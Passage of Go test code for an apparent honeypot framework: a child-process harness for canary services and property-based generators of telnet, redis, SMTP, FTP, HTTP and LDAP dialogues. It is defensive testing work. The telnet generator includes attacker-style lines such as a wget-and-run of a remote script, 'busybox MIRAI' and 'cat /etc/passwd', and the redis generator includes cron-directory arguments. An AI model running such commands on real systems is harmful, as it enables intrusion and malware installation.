	t := time.AfterFunc(timeout+time.Millisecond, k.wake)
	defer t.Stop()
	k.mu.Lock()
	defer k.mu.Unlock()
	for k.holds < n {
		if !time.Now().Before(deadline) || k.ch.Dead() {
			return false
		}
		k.cond.Wait()
	}
	return true
}

// New creates a hooked canary in the child.
func (c *Child) New(cfg Config) (*Canary, error) {
	data, _ := json.Marshal(cfg)
	c.mu.Lock()
	c.nextID++
	id := c.nextID
	k := &Canary{ch: c, id: id}
	k.cond = sync.NewCond(&k.mu)
	c.canaries[id] = k
	c.mu.Unlock()
	r, err := c.call('N', id, data, "new")
	if err != nil {
		return nil, err
	}
	if r.Err != "" {
		return nil, errors.New(r.Err)
	}
	return k, nil
}

func (k *Canary) add(e Ev) {
	k.mu.Lock()
	k.events = append(k.events, e)
	k.cond.Broadcast()
	k.mu.Unlock()
}

func (k *Canary) wake() {
	k.mu.Lock()
	k.cond.Broadcast()
	k.mu.Unlock()
}

// Send delivers one frame to the canary's first interface through the socketpair, i.e.
// through the real Start() receive loop (asynchronous).
func (k *Canary) Send(frame []byte) error {
	k.ch.wmu.Lock()
	defer k.ch.wmu.Unlock()
	return k.ch.command('F', k.id, append([]byte{0}, frame...))
}

// SendMany delivers the frames in order through the socketpair.
func (k *Canary) SendMany(frames [][]byte) error {
	for len(frames) > 0 {
		buf := []byte{0}
		n := 0
		for n < len(frames) && len(buf) < 1<<20 {
			f := frames[n]
			buf = append(buf, byte(len(f)>>8), byte(len(f)))
			buf = append(buf, f...)
			n++
		}
		k.ch.wmu.Lock()
		err := k.ch.command('M', k.id, buf)
		k.ch.wmu.Unlock()
		if err != nil {
			return err
		}
		frames = frames[n:]
	}
	return nil
}

// Inject runs InjectFrame in the child and returns the frames queued for transmit and
// the panic text (empty when none).
func (k *Canary) Inject(frame []byte) (tx [][]byte, panicMsg string, err error) {
	return k.inject('J', frame)
}

// InjectQuiesced is Inject followed by a barrier: the transmit ring is drained only after
// every listener goroutine in the child has come to rest, and the events those goroutines
// sent are in Events() when it returns.
func (k *Canary) InjectQuiesced(frame []byte) (tx [][]byte, panicMsg string, err error) {
	return k.inject('j', frame)
}

func (k *Canary) inject(cmd byte, frame []byte) (tx [][]byte, panicMsg string, err error) {
	r, err := k.ch.call(cmd, k.id, frame, "inj")
	if err != nil {
		return nil, "", err
	}
	if r.Err != "" {
		return nil, "", fmt.Errorf("child: %s", r.Err)
	}
	for _, h := range r.Tx {
		b, _ := hex.DecodeString(h)
		tx = append(tx, b)
	}
	return tx, r.Panic, nil
}

// Drain pops the transmit ring.
func (k *Canary) Drain() (tx [][]byte, err error) {
	r, err := k.ch.call('D', k.id, nil, "tx")
	if err != nil {
		return nil, err
	}
	for _, h := range r.Tx {
		b, _ := hex.DecodeString(h)
		tx = append(tx, b)
	}
	return tx, nil
}

// InjectBatch injects every frame under recover and returns the panics.
func (k *Canary) InjectBatch(frames [][]byte) ([]BatchPanic, error) {
	var out []BatchPanic
	base := 0
	for len(frames) > 0 {
		var buf []byte
		n := 0
		for n < len(frames) && len(buf) < 1<<20 {
			f := frames[n]
			buf = append(buf, byte(len(f)>>8), byte(len(f)))
			buf = append(buf, f...)
			n++
		}
		r, err := k.ch.call('B', k.id, buf, "batch")
		if err != nil {
			return out, err
		}
		for _, p := range r.Panics {
			p.Index += base
			out = append(out, p)
		}
		base += n
		frames = frames[n:]
	}
	return out, nil
}

// InjectBurst injects the frames back to back without draining in between (port
// handlers run concurrently with the later frames), waits until every listener
// goroutine rests and returns everything that was queued for transmit.
func (k *Canary) InjectBurst(frames [][]byte) (tx [][]byte, panics []BatchPanic, err error) {
	var buf []byte
	for _, f := range frames {
		buf = append(buf, byte(len(f)>>8), byte(len(f)))
		buf = append(buf, f...)
	}
	r, err := k.ch.call('b', k.id, buf, "burst")
	if err != nil {
		return nil, nil, err
	}
	if r.Err != "" {
		return nil, nil, fmt.Errorf("child: %s", r.Err)
	}
	for _, h := range r.Tx {
		b, _ := hex.DecodeString(h)
		tx = append(tx, b)
	}
	return tx, r.Panics, nil
}

// Rest is the barrier for a canary behind the real Start() loop: it returns when the
// loop has taken every frame written so far and it and all handler goroutines are parked.
func (k *Canary) Rest() error {
	r, err := k.ch.call('q', k.id, nil, "rest")
	if err != nil {
		return err
	}
	if r.Err != "" {
		return fmt.Errorf("child: %s", r.Err)
	}
	return nil
}

// Drained is a light barrier for a canary behind the real Start() loop: it returns when the
// loop has taken every frame written so far from its socket (it may still be handling
// the last one; handler goroutines are not waited for). Unlike Rest its cost does not
// grow with the number of parked handler goroutines.
func (k *Canary) Drained() error {
	r, err := k.ch.call('r', k.id, nil, "drained")
	if err != nil {
		return err
	}
	if r.Err != "" {
		return fmt.Errorf("child: %s", r.Err)
	}
	return nil
}

// ConnState returns the listener's initial send sequence number and state name for a
// connection (ok=false: no such entry).
func (k *Canary) ConnState(src IP4, sport uint16, dst IP4, dport uint16) (iss uint32, state string, ok bool, err error) {
	p := make([]byte, 12)
	copy(p[0:4], src[:])
	binary.BigEndian.PutUint16(p[4:6], sport)
	copy(p[6:10], dst[:])
	binary.BigEndian.PutUint16(p[10:12], dport)
	r, err := k.ch.call('I', k.id, p, "conn")
	if err != nil {
		return 0, "", false, err
	}
	return r.ISS, r.State, r.OK, nil
}

// States returns the number of occupied connection state slots.
func (k *Canary) States() (int, error) {
	r, err := k.ch.call('S', k.id, nil, "states")
	return r.States, err
}

// Late reads the fields of the events the channel retained (Config.Retain) as they are
// now - not as they were when the event was delivered - and returns them by position in
// Events(). Every event it returns is in Events() when it returns.
func (k *Canary) Late() (map[int]Ev, error) {
	r, err := k.ch.call('E', k.id, nil, "late")
	if err != nil {
		return nil, err
	}
	out := make(map[int]Ev, len(r.Late))
	for _, l := range r.Late {
		out[l.I] = Ev{M: l.M}
	}
	return out, nil
}

// Close releases the canary in the child (inject-mode canaries only).
func (k *Canary) Close() {
	k.ch.wmu.Lock()
	k.ch.command('K', k.id, nil)
	k.ch.wmu.Unlock()
	k.ch.mu.Lock()
	delete(k.ch.canaries, k.id)
	k.ch.mu.Unlock()
}

// Events returns a snapshot of the events received so far.
func (k *Canary) Events() []Ev {
	k.mu.Lock()
	defer k.mu.Unlock()
	return append([]Ev(nil), k.events...)
}

// WaitFor waits until pred holds over the event list, the child dies or the timeout
// expires; it returns whether pred held.
func (k *Canary) WaitFor(timeout time.Duration, pred func([]Ev) bool) bool {
	deadline := time.Now().Add(timeout)
	t := time.AfterFunc(timeout+time.Millisecond, k.wake)
	defer t.Stop()
	k.mu.Lock()
	defer k.mu.Unlock()
	for {
		if pred(k.events) {
			return true
		}
		if !time.Now().Before(deadline) || k.ch.Dead() {
			return pred(k.events)
		}
		k.cond.Wait()
	}
}
