package svc

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"strings"

	"pgregory.net/rapid"

	"verif/lab"
)

// Expect describes one event a command must produce.
type Expect struct {
	Match       map[string]string // key -> fmt.Sprint(value) that must be present
	Trim0       []string          // keys compared after trimming trailing NUL bytes (C-string fields)
	OIDs        []string          // keys holding comma separated OIDs, compared without a leading dot per OID
	PayloadFrom []byte            // when non-nil: event payload must be a non-empty-if-possible prefix of this
	PayloadFull bool              // payload must equal PayloadFrom
}

// Cmd is one protocol unit: its bytes on the wire and the events it must produce.
type Cmd struct {
	Name string
	Wire []byte
	Exp  []Expect
	Ends bool // the server ends the dialogue after this command (QUIT, fatal protocol state)
}

// Dialog is a generated command list for one service.
type Dialog struct {
	Service string
	UDP     bool // every Cmd is one datagram
	// SameSource: the datagrams belong together and come from one client address, in order
	SameSource bool
	Cmds       []Cmd
	// PayloadByRead: the service fills its payload field from a single Read, so the field
	// may be any prefix of the body depending on segmentation; it is excluded from the
	// metamorphic comparison and checked as a prefix.
	PayloadByRead bool
}

// Track selects the events of a connection that correspond to commands.
func Track(service string, e lab.Ev) bool {
	switch service {
	case "telnet":
		t := e.Str("type")
		return e.Str("category") == "telnet" && (t == "password-authentication" || t == "session")
	case "smtp":
		return e.Str("category") == "smtp"
	case "memcached":
		return e.Str("category") == "memcached"
	default:
		return e.Str("category") == service
	}
}

func (d Dialog) Stream() []byte {
	var b bytes.Buffer
	for _, c := range d.Cmds {
		b.Write(c.Wire)
	}
	return b.Bytes()
}

// Expected flattens the expectations up to and including the first ending command.
func (d Dialog) Expected() []Expect {
	var out []Expect
	for _, c := range d.Cmds {
		out = append(out, c.Exp...)
		if c.Ends {
			break
		}
	}
	return out
}

func (d Dialog) Summary() string {
	var names []string
	for _, c := range d.Cmds {
		names = append(names, c.Name)
	}
	return d.Service + ":" + strings.Join(names, ",")
}

// Compare checks a tracked event list against the expectations.
func Compare(exp []Expect, got []lab.Ev) error {
	for i := 0; i < len(exp) && i < len(got); i++ {
		for k, want := range exp[i].Match {
			if !got[i].Has(k) {
				return fmt.Errorf("event %d lacks %s (want %q); event=%s", i, k, want, got[i].Canon("payload", "payload-hex"))
			}
			g := got[i].Str(k)
			for _, tk := range exp[i].Trim0 {
				if tk == k {
					g = strings.TrimRight(g, "\x00")
				}
			}
			for _, ok := range exp[i].OIDs {
				if ok == k {
					parts := strings.Split(g, ",")
					for pi := range parts {
						parts[pi] = strings.TrimPrefix(strings.TrimSpace(parts[pi]), ".")
					}
					g = strings.Join(parts, ",")
				}
			}
			if g != want {
				return fmt.Errorf("event %d has %s=%q, command sent %q", i, k, trunc(g, 120), trunc(want, 120))
			}
		}
		if exp[i].PayloadFrom != nil {
			p := got[i].Str("payload")
			if !strings.HasPrefix(string(exp[i].PayloadFrom), p) {
				return fmt.Errorf("event %d payload %q is not a prefix of the body sent %q", i, trunc(p, 80), trunc(string(exp[i].PayloadFrom), 80))
			}
			if exp[i].PayloadFull && p != string(exp[i].PayloadFrom) {
				return fmt.Errorf("event %d payload has %d bytes, body sent has %d", i, len(p), len(exp[i].PayloadFrom))
			}
		}
	}
	if len(got) != len(exp) {
		var gs []string
		for _, g := range got {
			gs = append(gs, g.Canon("payload", "payload-hex", "stacktrace"))
		}
		return fmt.Errorf("%d command events captured, %d expected; captured=%s", len(got), len(exp), trunc(strings.Join(gs, " || "), 900))
	}
	return nil
}

// ---------------------------------------------------------------- generators

var words = []string{"a", "b", "foo", "bar", "index.html", "pub", "x1", "README", "tmp", "k"}

func word(t *rapid.T, label string) string { return rapid.SampledFrom(words).Draw(t, label) }

func text(t *rapid.T, label string, max int) string {
	return rapid.StringOfN(rapid.RuneFrom([]rune("abcdefghijklmnopqrstuvwxyzABCXYZ0123456789 _-./:@")), 0, max, -1).Draw(t, label)
}

func token(t *rapid.T, label string, min, max int) string {
	return rapid.StringOfN(rapid.RuneFrom([]rune("abcdefghijklmnopqrstuvwxyz0123456789")), min, max, -1).Draw(t, label)
}

func ev(kv ...string) Expect {
	m := map[string]string{}
	for i := 0; i+1 < len(kv); i += 2 {
		m[kv[i]] = kv[i+1]
	}
	return Expect{Match: m}
}

// GenRedis: RESP arrays of bulk strings.
func GenRedis(t *rapid.T) Dialog {
	d := Dialog{Service: "redis"}
	n := rapid.IntRange(1, 8).Draw(t, "ncmd")
	for i := 0; i < n; i++ {
		name := rapid.SampledFrom([]string{"INFO", "info", "PING", "GET", "SET", "KEYS", "CONFIG", "FLUSHALL", "SLAVEOF", "EVAL", "zz"}).Draw(t, "cmd")
		nargs := rapid.IntRange(0, 3).Draw(t, "nargs")
		var b bytes.Buffer
		fmt.Fprintf(&b, "*%d\r\n$%d\r\n%s\r\n", nargs+1, len(name), name)
		for j := 0; j < nargs; j++ {
			a := rapid.SampledFrom([]string{"server", "all", "k", "", "*", "dir", "/var/spool/cron", "0", "return 1"}).Draw(t, "arg")
			fmt.Fprintf(&b, "$%d\r\n%s\r\n", len(a), a)
		}
		if rapid.IntRange(0, 5).Draw(t, "blank") == 0 {
			b.WriteString("\r\n")
		}
		d.Cmds = append(d.Cmds, Cmd{Name: name, Wire: b.Bytes(), Exp: []Expect{ev("type", "redis-command", "redis.command", name)}})
	}
	return d
}

// GenMemcachedTCP: text protocol incl. storage commands with data blocks.
func GenMemcachedTCP(t *rapid.T) Dialog {
	d := Dialog{Service: "memcached"}
	n := rapid.IntRange(1, 8).Draw(t, "ncmd")
	for i := 0; i < n; i++ {
		kind := rapid.SampledFrom([]string{"get", "stats", "flush_all", "version", "delete", "set", "add", "append", "set", "gets", "incr"}).Draw(t, "cmd")
		switch kind {
		case "set", "add", "append", "replace", "prepend":
			key := word(t, "key")
			flags := fmt.Sprint(rapid.IntRange(0, 9).Draw(t, "flags"))
			exp := fmt.Sprint(rapid.SampledFrom([]int{0, 60, 3600}).Draw(t, "exp"))
			dl := rapid.SampledFrom([]int{0, 1, 2, 5, 79, 80, 81, 200}).Draw(t, "dlen")
			data := bytes.Repeat([]byte("v"), dl)
			for k := range data {
				data[k] = byte('A' + k%26)
			}
			line := fmt.Sprintf("%s %s %s %s %d", kind, key, flags, exp, dl)
			wire := append([]byte(line+"\r\n"), append(data, '\r', '\n')...)
			pf := data
			if len(pf) > 80 {
				pf = pf[:80]
			}
			d.Cmds = append(d.Cmds, Cmd{Name: kind, Wire: wire, Exp: []Expect{
				ev("type", "memcached-command", "memcached.command", line),
				{Match: map[string]string{"type": "memcached-" + kind, "memcached.command": kind, "memcached.key": key, "memcached.flags": flags, "memcached.expire-time": exp, "memcached.bytes": fmt.Sprint(dl)}, PayloadFrom: pf, PayloadFull: true},
			}})
		default:
			line := kind
			if kind == "get" || kind == "delete" || kind == "gets" || kind == "incr" {
				line += " " + word(t, "key")
			}
			d.Cmds = append(d.Cmds, Cmd{Name: kind, Wire: []byte(line + "\r\n"), Exp: []Expect{ev("type", "memcached-command", "memcached.command", line)}})
		}
	}
	return d
}

// GenTelnet: username, password, then shell lines (printable ASCII; the line editor's
// cursor keys are outside the grammar).
func GenTelnet(t *rapid.T) Dialog {
	d := Dialog{Service: "telnet"}
	nl := func() string { return rapid.SampledFrom([]string{"\r\n", "\n", "\r\n"}).Draw(t, "eol") }
	user := token(t, "user", 0, 12)
	pass := text(t, "pass", 16)
	d.Cmds = append(d.Cmds, Cmd{Name: "user", Wire: []byte(user + nl())})
	d.Cmds = append(d.Cmds, Cmd{Name: "pass", Wire: []byte(pass + nl()), Exp: []Expect{ev("type", "password-authentication", "telnet.username", user, "telnet.password", pass)}})
	n := rapid.IntRange(0, 6).Draw(t, "ncmd")
	for i := 0; i < n; i++ {
		line := rapid.OneOf(rapid.SampledFrom([]string{"ls -la", "cat /etc/passwd", "", "wget http://203.0.113.1/x.sh; sh x.sh", "enable", "busybox MIRAI", "echo 'a b'  c"}), rapid.Just(text(t, "line", 60))).Draw(t, "cmdline")
		d.Cmds = append(d.Cmds, Cmd{Name: "line", Wire: []byte(line + nl()), Exp: []Expect{ev("type", "session", "telnet.command", line)}})
	}
	return d
}

// GenFTP: control-connection commands that need no data connection.
func GenFTP(t *rapid.T, withDirs bool) Dialog {
	d := Dialog{Service: "ftp"}
	add := func(line string, ends bool) {
		d.Cmds = append(d.Cmds, Cmd{Name: strings.SplitN(line, " ", 2)[0], Wire: []byte(line + "\r\n"), Exp: []Expect{ev("ftp.command", line)}, Ends: ends})
	}
	if rapid.IntRange(0, 4).Draw(t, "prelogin") == 0 {
		add(rapid.SampledFrom([]string{"SYST", "FEAT", "NOOP", "PWD", "HELP"}).Draw(t, "pre"), false)
	}
	add("USER "+rapid.SampledFrom([]string{"anonymous", "anonymous", "root", "admin"}).Draw(t, "user"), false)
	add("PASS "+rapid.SampledFrom([]string{"anonymous", "anonymous", "guest@example.org", "x"}).Draw(t, "pass"), false)
	cmds := []string{"SYST", "NOOP", "PWD", "TYPE I", "TYPE A", "FEAT", "MODE S", "STRU F", "ALLO 100", "OPTS UTF8 ON", "REST 0", "SIZE nosuch", "MDTM nosuch", "XYZZY", "PBSZ 0", "PROT P", "HELP"}
	if withDirs {
		cmds = append(cmds, "MKD d1", "CWD d1", "CDUP", "RMD d1", "CWD /", "CWD nosuch", "DELE nosuch", "RNFR nosuch", "XPWD", "XCWD d1")
	}
	n := rapid.IntRange(0, 6).Draw(t, "ncmd")
	for i := 0; i < n; i++ {
		add(rapid.SampledFrom(cmds).Draw(t, "cmd"), false)
	}
	if rapid.Bool().Draw(t, "quit") {
		add("QUIT", true)
	}
	return d
}

// GenSMTP follows the service's state machine so that the reference knows which bytes
// are command lines and which are message data.
func GenSMTP(t *rapid.T) Dialog {
	d := Dialog{Service: "smtp"}
	line := func(s string, ends bool) {
		d.Cmds = append(d.Cmds, Cmd{Name: strings.SplitN(s, " ", 2)[0], Wire: []byte(s + "\r\n"), Exp: []Expect{ev("type", "input", "smtp.line", s)}, Ends: ends})
	}
	line(rapid.SampledFrom([]string{"HELO ", "EHLO "}).Draw(t, "hello")+token(t, "domain", 1, 10)+".example", false)
	n := rapid.IntRange(0, 4).Draw(t, "nunits")
	for i := 0; i < n; i++ {
		switch rapid.SampledFrom([]string{"mail-data", "mail-data", "mail-bdat", "mail-bdat", "bdat-aborted", "noop", "rset", "help", "unknown"}).Draw(t, "unit") {
		case "bdat-aborted":
			// a transaction that is given up after a first chunk: nothing of it may show up later
			line("MAIL FROM:<"+token(t, "from", 1, 8)+"@example.org>", false)
			chunk := "Subject: aborted-" + token(t, "asubj", 1, 8) + "\r\n\r\nstale " + text(t, "stale", 40) + "\r\n"
			l := fmt.Sprintf("BDAT %d", len(chunk))
			d.Cmds = append(d.Cmds, Cmd{Name: "BDAT", Wire: []byte(l + "\r\n" + chunk), Exp: []Expect{ev("type", "input", "smtp.line", l)}})
			line("RSET", false)
		case "noop":
			line("NOOP", false)
		case "rset":
			line("RSET", false)
		case "help":
			line("HELP", false)
		case "unknown":
			line("VRFY "+token(t, "who", 1, 8), false)
		case "mail-data":
			line("MAIL FROM:<"+token(t, "from", 1, 8)+"@example.org>", false)
			for r := rapid.IntRange(1, 2).Draw(t, "nrcpt"); r > 0; r-- {
				line("RCPT TO:<"+token(t, "rcpt", 1, 8)+"@example.net>", false)
			}
			line("DATA", false)
			subj := token(t, "subject", 1, 20)
			nl := rapid.IntRange(0, 5).Draw(t, "nlines")
			var body, wire bytes.Buffer
			fmt.Fprintf(&wire, "Subject: %s\r\nX-Mailer: verif\r\n\r\n", subj)
			for k := 0; k < nl; k++ {
				l := rapid.OneOf(rapid.Just(text(t, "bodyline", 70)), rapid.SampledFrom([]string{".hidden", "..", "QUIT", "", "RSET"})).Draw(t, "bl")
				body.WriteString(l + "\n")
				if strings.HasPrefix(l, ".") {
					wire.WriteString(".")
				}
				wire.WriteString(l + "\r\n")
			}
			wire.WriteString(".\r\n")
			d.Cmds = append(d.Cmds, Cmd{Name: "message", Wire: wire.Bytes(), Exp: []Expect{ev("type", "email", "smtp.body", body.String(), "smtp.Subject", subj, "smtp.X-Mailer", "verif")}})
		case "mail-bdat":
			line("MAIL FROM:<"+token(t, "from", 1, 8)+"@example.org>", false)
			line("RCPT TO:<"+token(t, "rcpt", 1, 8)+"@example.net>", false)
			subj := token(t, "subject", 1, 20)
			msg := fmt.Sprintf("Subject: %s\r\n\r\n%s\r\nQUIT\r\n", subj, text(t, "bdatbody", 120))
			cut := rapid.IntRange(0, len(msg)).Draw(t, "bdatcut")
			body := msg[strings.Index(msg, "\r\n\r\n")+4:]
			if cut > 0 && cut < len(msg) {
				l1 := fmt.Sprintf("BDAT %d", cut)
				d.Cmds = append(d.Cmds, Cmd{Name: "BDAT", Wire: []byte(l1 + "\r\n" + msg[:cut]), Exp: []Expect{ev("type", "input", "smtp.line", l1)}})
				l2 := fmt.Sprintf("BDAT %d LAST", len(msg)-cut)
				d.Cmds = append(d.Cmds, Cmd{Name: "BDAT-LAST", Wire: []byte(l2 + "\r\n" + msg[cut:]), Exp: []Expect{ev("type", "input", "smtp.line", l2), ev("type", "email", "smtp.body", body, "smtp.Subject", subj)}})
			} else {
				l := fmt.Sprintf("BDAT %d LAST", len(msg))
				d.Cmds = append(d.Cmds, Cmd{Name: "BDAT-LAST", Wire: []byte(l + "\r\n" + msg), Exp: []Expect{ev("type", "input", "smtp.line", l), ev("type", "email", "smtp.body", body, "smtp.Subject", subj)}})
			}
		}
	}
	if rapid.Bool().Draw(t, "quit") {
		line("QUIT", true)
	}
	return d
}

type httpReq struct {
	Method, Path, Host string
	Headers            [][2]string
	Body               []byte
}

func (r httpReq) wire() []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\n", r.Method, r.Path, r.Host)
	for _, h := range r.Headers {
		fmt.Fprintf(&b, "%s: %s\r\n", h[0], h[1])
	}
	if len(r.Body) > 0 || r.Method == "POST" || r.Method == "PUT" {
		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(r.Body))
	}
	b.WriteString("\r\n")
	b.Write(r.Body)
	return b.Bytes()
}

func genHTTPReq(t *rapid.T, methods []string, paths []string, body func(*rapid.T) []byte) httpReq {
	r := httpReq{
		Method: rapid.SampledFrom(methods).Draw(t, "method"),
		Path:   rapid.SampledFrom(paths).Draw(t, "path"),
		Host:   rapid.SampledFrom([]string{"example.org", "192.0.2.1:8080", "h"}).Draw(t, "host"),
	}
	nh := rapid.IntRange(0, 3).Draw(t, "nhdr")
	for i := 0; i < nh; i++ {
		r.Headers = append(r.Headers, [2]string{rapid.SampledFrom([]string{"User-Agent", "Accept", "X-Verif", "Authorization"}).Draw(t, "hname"), token(t, "hval", 1, 12)})
	}
	if r.Method == "POST" || r.Method == "PUT" {
		r.Body = body(t)
	}
	return r
}

func httpExpect(category string, r httpReq, payload bool, full bool) Expect {
	e := Expect{Match: map[string]string{"category": category, "http.method": r.Method, "http.url": r.Path, "http.host": r.Host, "http.proto": "HTTP/1.1"}}
	seen := map[string][]string{}
	for _, h := range r.Headers {
		k := "http.header." + strings.ToLower(h[0])
		seen[k] = append(seen[k], h[1])
	}
	for k, v := range seen {
		e.Match[k] = fmt.Sprint(v)
	}
	if payload {
		e.PayloadFrom = r.Body
		if e.PayloadFrom == nil {
			e.PayloadFrom = []byte{}
		}
		e.PayloadFull = full
	}
	return e
}

func smallBody(t *rapid.T) []byte {
	n := rapid.SampledFrom([]int{0, 1, 10, 200, 1023, 1024, 1025, 3000}).Draw(t, "blen")
	b := make([]byte, n)
	for i := range b {
		b[i] = byte('a' + i%26)
	}
	return b
}

// GenHTTP: 1..4 keep-alive requests on one connection.
func GenHTTP(t *rapid.T) Dialog {
	d := Dialog{Service: "http", PayloadByRead: true}
	n := rapid.IntRange(1, 4).Draw(t, "nreq")
	for i := 0; i < n; i++ {
		r := genHTTPReq(t, []string{"GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS"}, []string{"/", "/index.html", "/cgi-bin/x?a=1&b=2", "/a/b/../c", "*"}, smallBody)
		if r.Path == "*" && r.Method != "OPTIONS" {
			r.Path = "/"
		}
		d.Cmds = append(d.Cmds, Cmd{Name: r.Method, Wire: r.wire(), Exp: []Expect{httpExpect("http", r, true, false)}})
	}
	return d
}

// GenOneShotHTTP: services that serve one request per connection.
func GenOneShotHTTP(t *rapid.T, service string) Dialog {
	d := Dialog{Service: service}
	switch service {
	case "elasticsearch":
		d.PayloadByRead = true
		r := genHTTPReq(t, []string{"GET", "POST", "PUT", "DELETE"}, []string{"/", "/_search?q=x", "/_cat/indices", "/idx/_doc/1"}, smallBody)
		d.Cmds = []Cmd{{Name: r.Method, Wire: r.wire(), Exp: []Expect{httpExpect("elasticsearch", r, true, false)}}}
	case "docker":
		d.PayloadByRead = true
		r := genHTTPReq(t, []string{"GET", "POST"}, []string{"/version", "/v1.24/info", "/containers/json", "/v1.30/containers/create", "/images/json", "/_ping"}, smallBody)
		d.Cmds = []Cmd{{Name: r.Method, Wire: r.wire(), Exp: []Expect{httpExpect("docker", r, true, false)}}}
	case "eos":
		r := genHTTPReq(t, []string{"POST", "GET"}, []string{"/v1/chain/get_info", "/v1/wallet/list_keys", "/v1/unknown"}, smallBody)
		e := httpExpect("eos", r, true, true)
		e.Match["eos.method"] = r.Path
		d.Cmds = []Cmd{{Name: r.Method, Wire: r.wire(), Exp: []Expect{e}}}
	case "ethereum":
		id := rapid.IntRange(0, 1000).Draw(t, "id")
		method := rapid.SampledFrom([]string{"eth_accounts", "eth_blockNumber", "personal_unlockAccount", "web3_clientVersion", "net_version", "nosuch"}).Draw(t, "rpc")
		body := []byte(fmt.Sprintf(`{"jsonrpc":"2.0","method":%q,"params":[],"id":%d}`, method, id))
		r := genHTTPReq(t, []string{"POST"}, []string{"/", "/rpc"}, func(*rapid.T) []byte { return body })
		e := httpExpect("ethereum", r, true, true)
		e.Match["type"] = method
		e.Match["ethereum.method"] = method
		e.Match["ethereum.id"] = fmt.Sprint(id)
		e.Match["ethereum.jsonrpc"] = "2.0"
		d.Cmds = []Cmd{{Name: method, Wire: r.wire(), Exp: []Expect{e}}}
	case "cwmp":
		m := rapid.SampledFrom([]string{"Inform", "GetRPCMethods", "SetParameterValues"}).Draw(t, "cwmpmethod")
		arg := token(t, "arg", 0, 30)
		body := []byte(fmt.Sprintf(`<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cwmp="urn:dslforum-org:cwmp-1-0"><SOAP-ENV:Body><cwmp:%s><A>%s</A></cwmp:%s></SOAP-ENV:Body></SOAP-ENV:Envelope>`, m, arg, m))
		r := genHTTPReq(t, []string{"POST"}, []string{"/", "/UD/act?1"}, func(*rapid.T) []byte { return body })
		e := httpExpect("cwmp", r, false, false)
		e.Match["http.body"] = string(body)
		e.Match["cwmp.method"] = m
		e.Match["cwmp.argumentsXML"] = "<A>" + arg + "</A>"
		d.Cmds = []Cmd{{Name: m, Wire: r.wire(), Exp: []Expect{e}}}
	}
	return d
}

// ---- BER helpers (LDAP, SNMP)

func berLen(n int) []byte {
	if n < 128 {
		return []byte{byte(n)}
	}
	var b []byte
	for x := n; x > 0; x >>= 8 {
		b = append([]byte{byte(x)}, b...)
	}
	return append([]byte{0x80 | byte(len(b))}, b...)
}

func tlv(tag byte, content ...[]byte) []byte {
	var c []byte
	for _, x := range content {
		c = append(c, x...)
	}
	return append(append([]byte{tag}, berLen(len(c))...), c...)
}

func berInt(n int) []byte {
	if n == 0 {
		return tlv(0x02, []byte{0})
	}
	var b []byte
	for x := n; x > 0; x >>= 8 {
		b = append([]byte{byte(x)}, b...)
	}
	if b[0]&0x80 != 0 {
		b = append([]byte{0}, b...)
	}
	return tlv(0x02, b)
}

func berStr(s string) []byte { return tlv(0x04, []byte(s)) }

// LDAP message builders (exported for C12).
func LDAPBind(id int, dn, pw string) []byte {
	return tlv(0x30, berInt(id), tlv(0x60, berInt(3), berStr(dn), tlv(0x80, []byte(pw))))
}
func LDAPUnbind(id int) []byte { return tlv(0x30, berInt(id), tlv(0x42)) }
func LDAPSearch(id int, base, attr, val string) []byte {
	filter := tlv(0xa3, berStr(attr), berStr(val)) // equalityMatch
	if attr == "" {
		filter = tlv(0x87, []byte("objectClass")) // present
	}
	return tlv(0x30, berInt(id), tlv(0x63, berStr(base), tlv(0x0a, []byte{2}), tlv(0x0a, []byte{0}), berInt(0), berInt(0), tlv(0x01, []byte{0}), filter, tlv(0x30)))
}
func LDAPModify(id int, dn string) []byte {
	return tlv(0x30, berInt(id), tlv(0x66, berStr(dn), tlv(0x30, tlv(0x30, tlv(0x0a, []byte{2}), tlv(0x30, berStr("description"), tlv(0x31, berStr("x")))))))
}
func LDAPAdd(id int, dn string) []byte {
	return tlv(0x30, berInt(id), tlv(0x68, berStr(dn), tlv(0x30, tlv(0x30, berStr("objectClass"), tlv(0x31, berStr("top"))))))
}
func LDAPDelete(id int, dn string) []byte { return tlv(0x30, berInt(id), tlv(0x4a, []byte(dn))) }
func LDAPModifyDN(id int, dn, newrdn string) []byte {
	return tlv(0x30, berInt(id), tlv(0x6c, berStr(dn), berStr(newrdn), tlv(0x01, []byte{0xff})))
}
func LDAPCompare(id int, dn, attr, val string) []byte {
	return tlv(0x30, berInt(id), tlv(0x6e, berStr(dn), tlv(0x30, berStr(attr), berStr(val))))
}
func LDAPAbandon(id, target int) []byte {
	b := berInt(target)
	b[0] = 0x50
	return tlv(0x30, berInt(id), b)
}

// LDAPUser is the user name as the service evaluates a bind DN (documented in bind.go:
// cut at the first comma, strip a leading cn= / sn=).
func LDAPUser(dn string) string {
	if i := strings.Index(dn, ","); i > -1 {
		dn = dn[:i]
	}
	if strings.HasPrefix(dn, "cn=") || strings.HasPrefix(dn, "sn=") {
		dn = dn[3:]
	}
	return dn
}

// GenLDAP: message sequences.
func GenLDAP(t *rapid.T) Dialog {
	d := Dialog{Service: "ldap"}
	n := rapid.IntRange(1, 7).Draw(t, "nmsg")
	id := rapid.IntRange(1, 100).Draw(t, "firstid")
	for i := 0; i < n; i++ {
		id += rapid.IntRange(1, 3).Draw(t, "idstep")
		ids := fmt.Sprint(id)
		dn := rapid.SampledFrom([]string{"cn=root,dc=example,dc=com", "cn=admin", "uid=x,ou=people", "", "guest"}).Draw(t, "dn")
		switch rapid.SampledFrom([]string{"bind", "bind", "search", "modify", "add", "delete", "modifydn", "compare", "abandon", "unbind"}).Draw(t, "op") {
		case "bind":
			pw := rapid.SampledFrom([]string{"root", "admin", "", "secret"}).Draw(t, "pw")
			d.Cmds = append(d.Cmds, Cmd{Name: "bind", Wire: LDAPBind(id, dn, pw), Exp: []Expect{ev("ldap.request-type", "bind", "ldap.message-id", ids, "ldap.username", LDAPUser(dn), "ldap.password", pw)}})
		case "search":
			attr := rapid.SampledFrom([]string{"uid", "givenName", "cn", ""}).Draw(t, "attr")
			val := token(t, "val", 1, 8)
